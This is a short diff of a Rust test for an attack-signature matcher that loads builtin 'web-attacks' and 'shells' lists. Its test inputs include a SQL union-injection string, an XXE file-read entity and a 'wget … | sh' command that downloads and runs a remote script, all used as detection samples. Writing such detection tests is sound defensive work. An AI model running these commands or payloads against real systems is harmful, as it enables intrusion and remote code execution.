@@ -88,7 +88,7 @@ fn every_builtin_literal_is_found_wherever_it_is_cut() {
 fn expressions_are_found_wherever_they_are_cut() {
     let list = builtin("web-attacks").unwrap().unwrap();
     let matcher = Matcher::new(&[list, builtin("shells").unwrap().unwrap()]).unwrap();
-    cut_everywhere(&matcher, b"union/*x*/all/**/select", "sql-union-comment-select", 4);
+    cut_everywhere(&matcher, b"union/*x*/all/**/select", "sql-union-comment-select", 6);
     cut_everywhere(&matcher, b"<!ENTITY x SYSTEM \"file:", "xxe", 7);
     cut_everywhere(&matcher, b"wget http://x.org/a.sh -O- | sh;", "wget-pipe-sh", 8);
     let behind = self::matcher(&pattern("exe", "regex = '[a-z]{3,8}\\.exe=[0-9]'"));
